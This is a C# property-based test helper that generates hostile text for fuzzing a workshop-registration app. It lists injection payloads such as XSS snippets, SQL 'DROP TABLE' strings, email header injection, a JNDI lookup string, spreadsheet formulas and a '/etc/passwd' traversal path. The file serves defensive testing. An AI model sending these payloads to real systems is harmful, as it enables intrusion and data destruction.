using CsCheck;

namespace Workshops.Tests.Support;

/// <summary>Generators for text an attacker (or an unlucky paste) might send.</summary>
internal static class HostileInput
{
    public static readonly string[] Atoms =
    [
        "", " ", "\t", "\0", "\r\n", "\r\nBcc: victim@example.org", "%0d%0aBcc:x@y.z", "\u0085", "\u2028", "\u202Eevil", "\uFEFF",
        "\ud800", "\udc00", "\ud83c", "🎉", "漢字", "ä å ő Ñ", "Zoë O'Brien",
        "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>",
        "javascript:alert(1)", "{{7*7}}", "@(1+1)", "${jndi:ldap://x/a}",
        "=1+1", "+SUM(A1)", "-2+3", "@cmd", "=HYPERLINK(\"http://x\")",
        "'; DROP TABLE Registrations;--", "\" OR 1=1 --", "Robert'); DROP TABLE Workshops;--",
        "../../etc/passwd", "%00", "%", "&amp;", "&#0;", "\\", "\\u0000",
        "aino@example.fi", "AINO@EXAMPLE.FI", "a@b", "a@b.c\r\n", "Municipal", "Other", "fi", "sv", "true",
        new string('x', 201), new string('€', 1001), new string('a', 300) + "@example.fi",
    ];

    private static readonly Gen<string> Atom = Gen.OneOf(Atoms);

    /// <summary>Any UTF-16 code unit, lone surrogates and controls included.</summary>
    private static readonly Gen<string> Noise = Gen.String[Gen.Char, 0, 40];

    public static readonly Gen<string> Text =
        Gen.Frequency((3, Atom), (1, Noise), (2, Gen.Select(Atom, Noise, Atom, (a, b, c) => a + b + c)));

    /// <summary>Bytes for a URL path segment or query value: percent-encoded UTF-8, or raw invalid byte sequences.</summary>
    public static readonly Gen<string> UrlPart = Gen.Frequency(
        (4, Text.Select(Encode)),
        (1, Gen.Byte.Array[1, 12].Select(bytes => string.Concat(bytes.Select(b => $"%{b:X2}")))));

    public static string Encode(string value) =>
        string.Concat(System.Text.Encoding.UTF8.GetBytes(value).Select(b => $"%{b:X2}"));
}
